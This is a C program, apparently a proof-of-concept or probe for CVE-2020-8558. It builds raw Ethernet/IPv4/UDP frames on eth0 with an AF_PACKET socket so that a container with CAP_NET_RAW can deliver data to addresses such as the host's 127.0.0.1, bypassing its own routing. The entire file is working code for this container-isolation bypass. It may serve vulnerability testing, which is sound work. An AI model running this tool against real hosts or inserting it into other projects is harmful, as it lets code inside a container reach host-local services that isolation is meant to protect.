// rawsend MAC IP PORT TEXT: one hand-built Ethernet + IPv4 + UDP frame, sent
// on eth0 through an AF_PACKET socket (what CAP_NET_RAW allows), from eth0's
// own MAC and address to the given MAC, IP and UDP port, with TEXT as the
// payload. A socket bound to IP:PORT on the host then reads TEXT if the
// kernel delivered the frame. The routing stack of the container is bypassed:
// this is how a container reaches an address no route of its own leads to,
// as 127.0.0.1 on the host (CVE-2020-8558). Prints what it sent, or the call
// that failed with its errno; exits 1 on a failure, 2 on bad arguments.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define IFACE "eth0"

static int fail(const char *call) {
  int e = errno;
  printf("rawsend: %s: %s (errno %d)\n", call, strerror(e), e);
  return 1;
}

// RFC 1071: the one's complement of the one's complement sum of 16-bit words.
static uint16_t checksum(const void *data, size_t len) {
  const uint8_t *p = data;
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < len; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (len & 1) sum += (uint32_t)(p[len - 1] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

int main(int argc, char **argv) {
  uint8_t mac[ETH_ALEN];
  struct in_addr dst;
  char *end;
  long port = argc == 5 ? strtol(argv[3], &end, 10) : 0;
  if (argc != 5 || sscanf(argv[1], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6 ||
      inet_pton(AF_INET, argv[2], &dst) != 1 || *end || port < 1 || port > 65535) {
    fprintf(stderr, "usage: rawsend MAC IP PORT TEXT\n");
    return 2;
  }
  size_t textLen = strlen(argv[4]);
  if (textLen > 1000) {
    fprintf(stderr, "rawsend: TEXT is longer than 1000 bytes\n");
    return 2;
  }

  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (fd < 0) return fail("socket(AF_PACKET, SOCK_RAW, ETH_P_IP)");
  struct ifreq ifr = {0};
  strncpy(ifr.ifr_name, IFACE, IFNAMSIZ - 1);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) return fail("ioctl(" IFACE ", SIOCGIFINDEX)");
  int ifindex = ifr.ifr_ifindex;
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) return fail("ioctl(" IFACE ", SIOCGIFHWADDR)");
  uint8_t srcMac[ETH_ALEN];
  memcpy(srcMac, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
  // SIOCGIFADDR wants an AF_INET socket; an AF_PACKET one answers EINVAL.
  int inet = socket(AF_INET, SOCK_DGRAM, 0);
  if (inet < 0) return fail("socket(AF_INET, SOCK_DGRAM)");
  ifr.ifr_addr.sa_family = AF_INET;
  if (ioctl(inet, SIOCGIFADDR, &ifr) < 0) return fail("ioctl(" IFACE ", SIOCGIFADDR)");
  struct in_addr src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
  close(inet);

  uint8_t frame[sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct udphdr) + 1000] = {0};
  struct ether_header *eth = (struct ether_header *)frame;
  struct iphdr *ip = (struct iphdr *)(eth + 1);
  struct udphdr *udp = (struct udphdr *)(ip + 1);
  memcpy(udp + 1, argv[4], textLen);
  memcpy(eth->ether_dhost, mac, ETH_ALEN);
  memcpy(eth->ether_shost, srcMac, ETH_ALEN);
  eth->ether_type = htons(ETHERTYPE_IP);
  size_t ipLen = sizeof *ip + sizeof *udp + textLen;
  ip->version = 4;
  ip->ihl = sizeof *ip / 4;
  ip->tot_len = htons((uint16_t)ipLen);
  ip->id = htons((uint16_t)getpid());
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->saddr = src.s_addr;
  ip->daddr = dst.s_addr;
  ip->check = checksum(ip, sizeof *ip);
  udp->source = htons(40000);
  udp->dest = htons((uint16_t)port);
  udp->len = htons((uint16_t)(sizeof *udp + textLen));
  udp->check = 0; // optional in IPv4 (RFC 768)

  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = ifindex, .sll_halen = ETH_ALEN};
  memcpy(to.sll_addr, mac, ETH_ALEN);
  size_t frameLen = sizeof *eth + ipLen;
  ssize_t n = sendto(fd, frame, frameLen, 0, (struct sockaddr *)&to, sizeof to);
  if (n < 0) return fail("sendto");
  char from[INET_ADDRSTRLEN];
  inet_ntop(AF_INET, &src, from, sizeof from);
  printf("rawsend: sent %zd bytes to %s %s:%ld from %s\n", n, argv[1], argv[2], port, from);
  return 0;
}
